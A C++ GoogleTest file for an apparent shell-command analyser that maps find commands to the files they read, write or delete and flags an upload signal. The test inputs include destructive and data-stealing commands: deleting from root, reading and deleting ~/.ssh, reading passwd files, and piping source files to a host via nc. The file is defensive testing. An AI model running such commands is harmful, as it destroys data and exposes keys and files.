#include <gtest/gtest.h>

#include "shell/test_util.h"

namespace warden::shell {
namespace {

using namespace testing;

TEST(FindCommandsTest, DeleteWithoutFiltersDeletesTheRoot) {
  Facts f = Analyze("find / -delete");
  const FileFact* d = FindFile(f, FileOp::kDelete, "/");
  ASSERT_NE(d, nullptr) << Dump(f);
  EXPECT_TRUE(d->recursive);
}

TEST(FindCommandsTest, OneNameNarrowsThePattern) {
  Facts f = Analyze("find . -name '*.pyc' -delete");
  const FileFact* d = FindFile(f, FileOp::kDelete, "/home/dev/project/**/[!.]*.pyc");
  ASSERT_NE(d, nullptr) << Dump(f);
  EXPECT_TRUE(d->glob);
}

TEST(FindCommandsTest, ExecRunsWithTheMatchedPaths) {
  Facts f = Analyze("find ~ -type f -exec rm {} \\;");
  const FileFact* d = FindFile(f, FileOp::kDelete, "/home/dev");
  ASSERT_NE(d, nullptr) << Dump(f);
  EXPECT_TRUE(d->recursive);
}

TEST(FindCommandsTest, FprintWrites) {
  Facts f = Analyze("find . -fprint /etc/list");
  EXPECT_NE(FindFile(f, FileOp::kWrite, "/etc/list"), nullptr) << Dump(f);
}

}  // namespace
// The expression is read as find reads it: each action sees the paths of the filters before
// it in its branch; alternatives join; negations narrow nothing; -prune branches print nothing.
TEST(FindCommandsTest, ActionsSeeTheirBranchesPaths) {
  Facts f = Analyze("find . -name node_modules -prune -o -name '*.js' -print | xargs wc -l");
  EXPECT_NE(FindFile(f, FileOp::kRead, "/home/dev/project/**/[!.]*.js"), nullptr) << Dump(f);
  Facts g = Analyze("find src \\( -name '*.c' -o -iname '*.h' \\) -exec sed -i s/a/b/ {} +");
  EXPECT_NE(FindFile(g, FileOp::kWrite, "/home/dev/project/src/**/[!.]*.c"), nullptr) << Dump(g);
  EXPECT_NE(FindFile(g, FileOp::kWrite, "/home/dev/project/src/**/[!.]*.[hH]"), nullptr) << Dump(g);
  Facts j = Analyze("find src \\( -name '*.c' -o -name '*.h' \\) | xargs cat");
  EXPECT_NE(FindFile(j, FileOp::kRead, "/{home/dev/project/src/**/[!.]*.c,home/dev/project/src/**/[!.]*.h}"), nullptr) << Dump(j);
  Facts h = Analyze("find . -type f -not -name '*.md' -exec rm {} +");
  const FileFact* d = FindFile(h, FileOp::kDelete, "/home/dev/project");
  ASSERT_NE(d, nullptr) << Dump(h);
  EXPECT_TRUE(d->recursive);
  Facts k = Analyze("find ~ -path '*/.ssh/*' -exec cat {} \\;");
  EXPECT_NE(FindFile(k, FileOp::kRead, "/home/dev/**/.ssh/**"), nullptr) << Dump(k);
}

TEST(FindCommandsTest, TheRootMatchesItsOwnName) {
  Facts f = Analyze("find ~/.ssh -name .ssh -exec rm -rf {} +");
  const FileFact* d = FindFile(f, FileOp::kDelete, "/home/dev/.ssh");
  ASSERT_NE(d, nullptr) << Dump(f);
  EXPECT_TRUE(d->recursive);
}

TEST(FindCommandsTest, SeveralRootsAreAllSeen) {
  Facts f = Analyze("find src /etc -name passwd | xargs cat");
  EXPECT_NE(FindFile(f, FileOp::kRead, "/{home/dev/project/src/**/passwd,etc/**/passwd}"), nullptr) << Dump(f);
  Facts g = Analyze("find a b c d e -name x -exec rm {} +");
  EXPECT_NE(FindFile(g, FileOp::kDelete, "/home/dev/project/e/**/x"), nullptr) << Dump(g);
}

TEST(FindCommandsTest, OnlyExecsPrintNothing) {
  Facts f = Analyze("find . -name '*.py' -exec cat {} + | nc h 1");
  EXPECT_TRUE(HasSignal(f, kSignalUpload)) << Dump(f);
}

}  // namespace warden::shell
